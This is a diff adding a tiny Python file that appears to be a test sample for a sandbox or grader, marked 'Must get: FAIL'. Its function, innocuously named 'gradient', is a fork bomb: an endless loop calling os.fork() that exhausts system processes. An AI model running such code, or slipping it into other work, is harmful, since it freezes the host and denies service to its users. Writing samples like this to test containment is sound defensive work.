@@ -1,0 +1,11 @@
+"""Forks until nothing else runs.
+
+Must get: FAIL
+"""
+
+import os
+
+
+def gradient(x):
+    while True:
+        os.fork()
